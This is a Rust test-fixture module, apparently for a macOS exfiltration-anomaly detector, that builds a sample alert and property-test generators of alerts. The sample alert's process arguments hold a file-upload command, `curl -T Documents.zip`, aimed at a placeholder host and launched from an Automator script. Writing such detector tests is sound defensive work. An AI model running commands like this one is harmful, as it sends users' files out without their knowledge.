//! Alerts for tests: one plain, and a generator of varied ones.

use std::collections::BTreeMap;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr};
use std::sync::Arc;

use proptest::prelude::*;
use serde_json::{Value, json};

use super::{
    Activity, Alert, Closed, Detection, ExceptionSection, Host, Losses, Surroundings, TopDestination,
};
use crate::detect::{
    BaselineState, BaselineSummary, Channel, ChannelScore, Condition, Counterfactual, Finding, Held,
    HeldReason, Severity,
};
use crate::engine::Ended;
use crate::exceptions::Action;
use crate::network::identify::{Identified, Metadata};
use crate::network::{Counters, Evidence, Flow, FlowId, FlowOwner, Protocol};
use crate::observation::{
    CodeSigning, Credentials, Direction, Origin, ProcessKey, Timestamp, Transport, ZoneOffset,
};
use crate::process::{Attribution, Identity, Method, ProcessFacts, Role, Script, ScriptSource, Subject, Who};

/// The plain alert: `curl` that a script of Automator runs sends to a place of its own.
pub(crate) fn plain() -> Alert {
    Alert::new(&detection(), None)
}

/// The plain alert of another program at another time.
pub(crate) fn named(image: &str, time: Timestamp) -> Alert {
    let mut detection = detection();
    detection.finding.subject.image = Identity::new(image);
    detection.finding.time = time;
    Alert::new(&detection, None)
}

/// The flow of the plain alert, as one that ended at this second.
pub(crate) fn ended(second: i64) -> Ended {
    let Detection { flow, who, attribution, .. } = detection();
    Ended {
        time: Timestamp::from_seconds(second, 0),
        zone: ZoneOffset::default(),
        flow,
        attribution: Attribution { method: attribution, who: Some(who), via: None },
    }
}

/// A channel that counts.
pub(crate) fn channel(name: Channel) -> ChannelScore {
    let (observed, expected, evidence) = match name {
        Channel::Protocol => (
            json!("unknown/other"),
            json!({ "known": [{ "protocol": "tls/well-known", "days": 12 }, { "protocol": "dns/well-known", "days": 9 }] }),
            json!({ "log10_hazard": -2.1, "log10_share": -1.2 }),
        ),
        Channel::Initiator => (
            json!("apple:com.apple.Automator"),
            json!({ "pairs": "seen before on this Mac" }),
            json!({ "new_pairs_per_day": 0.5, "log10_tail": -2.808, "new_pairs_in_30_days": 9 }),
        ),
        Channel::FanOut => (
            json!({ "hour_flows": 900, "day_flows": 1_000 }),
            json!({ "hour_bytes": { "median": 3, "p99": 20 }, "day_bytes": { "median": 9, "p99": 60 }, "hours": 90, "days": 9 }),
            Value::Null,
        ),
        Channel::Volume | Channel::Destination | Channel::Received => (
            json!({ "hour_bytes": 23_400_000, "day_bytes": 23_400_000 }),
            json!({ "hour_bytes": { "median": 3_210, "p99": 120_000 }, "day_bytes": { "median": 41_000, "p99": 900_000 }, "hours": 90, "days": 9 }),
            json!({ "hour": { "log10_p": -3.2, "windows_per_day": 3.0, "z": 2.7, "windows": 90, "bits": 24.5 } }),
        ),
    };
    ChannelScore { name, z: 2.345_678_912, counted: true, observed, expected, evidence }
}

/// What the plain alert is made of.
pub(crate) fn detection() -> Detection {
    let time = Timestamp::from_seconds(1_780_000_000, 123_456_789);
    let automator =
        Arc::new(facts("Automator", "/System/Applications/Automator.app/Contents/MacOS/Automator", 1_163));
    let shell = Arc::new(facts("sh", "/bin/sh", 1_164));
    let mut curl = facts("curl", "/usr/bin/curl", 1_165);
    curl.arguments = ["curl", "-T", "Documents.zip", "https://files.example.net/in/"].map(Arc::from).into();
    let subject = Subject { image: curl.identity.clone(), initiator: Some(automator.identity.clone()) };
    let who = Who {
        subject: subject.clone(),
        role: Role { tool: true, scripting_host: false, scripted: true },
        process: Arc::new(curl),
        initiator_known: true,
        initiator: Some(automator.clone()),
        application: Some(automator.clone()),
        ancestors: vec![shell, automator],
        volatile: false,
    };
    Detection {
        finding: Finding {
            time,
            subject,
            role: who.role,
            channels: vec![channel(Channel::Volume), channel(Channel::Initiator)],
            score: 2.586_505,
            severity: Severity::High,
            threshold: 1.301_03,
            trim: 0.0,
            active_subjects: 23,
            imbalance: Some(812.5),
            baseline: BaselineSummary {
                state: BaselineState::Active,
                first_seen: Timestamp::from_seconds(1_779_000_000, 0),
                age_days: 11.5,
                active_hours: 90,
                active_days: 9,
                destinations: 4,
            },
            mac_state: BaselineState::Active,
            held_back: 0,
            held: Vec::new(),
            occurrence: 0,
            unless: vec![Counterfactual { channel: Channel::Initiator, condition: Condition::SeenBefore }],
        },
        who: Arc::new(who),
        attribution: Method::Exact,
        flow: Flow {
            id: FlowId::Reported("f-1".into()),
            serial: 1,
            origin: Origin::default(),
            owner: FlowOwner::default(),
            transport: Transport::Tcp,
            local: "192.0.2.20:44970".parse().unwrap(),
            remote: "198.51.100.23:443".parse().unwrap(),
            direction: Some(Direction::Outbound),
            interface: Some(Arc::from("en0")),
            counters: Counters {
                bytes_out: 23_400_000,
                bytes_in: 5_120,
                packets_out: 17_000,
                packets_in: 900,
                ..Counters::default()
            },
            unwindowed: None,
            start: Timestamp::from_seconds(1_779_999_990, 0),
            last: time,
            midstream: false,
            attempted: false,
            identified: Identified {
                protocol: Some(Protocol::Tls),
                evidence: Evidence::Payload,
                port_protocol: Some(Protocol::Tls),
                upgraded: None,
                resolved_name: None,
                metadata: Some(Box::new(Metadata {
                    server_name: Some(Arc::from("files.example.net")),
                    ja4: Some(Arc::from("t13d3112h2_e8f1e7e78f70_b26ce05bbdd6")),
                    tls_version: Some(Arc::from("1.3")),
                    ..Metadata::default()
                })),
            },
        },
        destination: Some(Arc::from("example.net")),
        host: Host {
            name: Arc::from("demo-mac"),
            os_version: Some(Arc::from("26.1")),
            os_build: Some(Arc::from("25B78")),
            serial_number: Some(Arc::from("C02EXAMPLE01")),
            hardware_uuid: Some(Arc::from("6E2A7C0E-1D4B-5C3F-9B61-0A4D5E6F7A8B")),
            users: BTreeMap::from([(501, Arc::from("alice"))]),
        },
        losses: Losses::default(),
        surroundings: Surroundings::default(),
    }
}

/// A process that Apple signed.
fn facts(name: &str, path: &str, pid: i32) -> ProcessFacts {
    ProcessFacts {
        identity: Identity::new(format!("apple:com.apple.{name}")),
        path: Arc::from(path),
        key: ProcessKey { pid, pidversion: Some(pid * 3) },
        arguments: vec![Arc::from(path)],
        signing: CodeSigning {
            flags: 0x2600_0001,
            is_platform_binary: true,
            signing_id: Some(Arc::from(format!("com.apple.{name}"))),
            team_id: None,
            cdhash: Some([0xab; 20]),
        },
        script: None,
        cwd: Some(Arc::from("/Users/alice")),
        credentials: Credentials { auid: Some(501), euid: Some(501), ruid: Some(501), asid: Some(100_001) },
        session_id: Some(1),
        tty: None,
        start: Some(Timestamp::from_seconds(1_779_999_980, 0)),
    }
}

/// Texts as malware and people write them.
fn text() -> impl Strategy<Value = Arc<str>> {
    prop_oneof!["[ -~]{0,60}", "\\PC{0,20}", Just("\u{7}\"\\\n\u{2028}</script>".to_owned()), "x{0,3000}"]
        .prop_map(|text: String| Arc::from(text))
}

fn address() -> impl Strategy<Value = SocketAddr> {
    let ip = prop_oneof![
        any::<[u8; 4]>().prop_map(|octets| IpAddr::V4(Ipv4Addr::from(octets))),
        any::<[u8; 16]>().prop_map(|octets| IpAddr::V6(Ipv6Addr::from(octets))),
    ];
    (ip, any::<u16>()).prop_map(SocketAddr::from)
}

prop_compose! {
    fn any_facts()(
        path in text(), arguments in prop::collection::vec(text(), 0..8), pid in any::<i32>(), version in any::<Option<i32>>(),
        signed in 0..4, id in prop::option::of(text()), uid in any::<Option<u32>>(), extra in prop::option::of(text()),
        start in prop::option::of(-1_000i64..3_000_000_000),
    ) -> ProcessFacts {
        ProcessFacts {
            identity: Identity::new(format!("path:{path}")),
            key: ProcessKey { pid, pidversion: version },
            signing: CodeSigning {
                flags: if signed == 0 { 0 } else { 0x2000_0001 },
                is_platform_binary: signed == 1,
                signing_id: id.clone(),
                team_id: (signed == 2).then(|| Arc::from("ABCDE12345")),
                cdhash: (signed > 0).then_some([7; 20]),
            },
            script: extra.clone().map(|name| Script { source: ScriptSource::File, name, sha256: None }),
            cwd: extra,
            credentials: Credentials { auid: uid, euid: uid, ruid: uid, asid: None },
            session_id: version,
            tty: id,
            start: start.map(|seconds| Timestamp::from_seconds(seconds, 5)),
            path,
            arguments,
        }
    }
}

prop_compose! {
    fn any_flow()(
        local in address(), remote in address(), protocol in prop::option::of(prop::sample::select(Protocol::ALL)),
        port in prop::option::of(prop::sample::select(Protocol::ALL)), transport in any::<u8>(), bytes_out in any::<u64>(),
        bytes_in in any::<u64>(), names in prop::option::of(text()), direction in any::<Option<bool>>(),
        answers in prop::collection::vec(text(), 0..5),
    ) -> Flow {
        let direction = direction.map(|out| if out { Direction::Outbound } else { Direction::Inbound });
        let metadata = Metadata {
            server_name: names.clone(), dns_query: names.clone(), dns_answers: answers, user_agent: names.clone(),
            http_host: names.clone(), ja4: names.clone(), proxied_to: names.clone(), ..Metadata::default()
        };
        let plain = detection().flow;
        Flow {
            local, remote, transport: Transport::from(transport), direction, interface: names,
            counters: Counters { bytes_out, bytes_in, packets_out: bytes_out, ..Counters::default() },
            identified: Identified {
                protocol, port_protocol: port, metadata: Some(Box::new(metadata)), ..plain.identified
            },
            ..plain
        }
    }
}

prop_compose! {
    /// Alerts of every kind.
    pub(crate) fn any_alert()(
        process in any_facts(), initiator in prop::option::of(any_facts()), chain in prop::collection::vec(any_facts(), 0..12),
        flow in any_flow(), score in -2.0..9.0f64,
        channels in prop::sample::subsequence(vec![
            Channel::Volume, Channel::Destination, Channel::Protocol, Channel::Initiator, Channel::Received, Channel::FanOut,
        ], 0..=6),
        names in prop::collection::vec(text(), 4), seconds in 0i64..4_000_000_000, stage in 0..4,
        known in any::<bool>(), sequence in 0..u64::from(u32::MAX),
    ) -> Alert {
        let mut detection = detection();
        let time = Timestamp::from_seconds(seconds, 1);
        let [name, destination, command, serial] = <[Arc<str>; 4]>::try_from(names).unwrap();
        let who = Arc::make_mut(&mut detection.who);
        who.subject = Subject {
            image: process.identity.clone(),
            initiator: initiator.as_ref().map(|facts| facts.identity.clone()),
        };
        who.process = Arc::new(process);
        who.initiator = initiator.map(Arc::new);
        who.application = None;
        who.ancestors = chain.into_iter().map(Arc::new).collect();
        detection.finding.subject = who.subject.clone();
        detection.finding.time = time;
        detection.finding.score = score;
        detection.finding.severity = Severity::of(score);
        detection.finding.channels = channels.into_iter().map(channel).collect();
        detection.finding.held = vec![Held {
            time, score, reason: HeldReason::Repeated, destination: Some(destination.clone()), command: Some(command),
        }];
        detection.finding.unless = vec![Counterfactual {
            channel: Channel::Volume, condition: Condition::BytesAtMost { bytes: 5, share: 0.25 },
        }];
        detection.flow = flow;
        detection.surroundings.top_destinations =
            vec![TopDestination { name: destination.clone(), bytes_out: 9, first_seen: time }];
        detection.surroundings.woke = known.then_some(time);
        detection.destination = Some(destination);
        if known {
            detection.host.serial_number = Some(serial);
        } else {
            detection.host = Host { name, ..Host::default() };
        }
        let exception =
            (stage == 3).then(|| ExceptionSection {
                id: "x-1".to_owned(),
                owner: "o".to_owned(),
                expires: None,
                action: if known { Action::Suppress } else { Action::Lower },
            });
        let mut alert = Alert::new(&detection, exception);
        alert.number(sequence);
        match stage {
            1 => alert.stage.activity = Activity::Update,
            2 => {
                alert.stage.activity = Activity::Close;
                alert.stage.closed = Some(Closed::Learned);
            }
            _ => {}
        }
        alert
    }
}
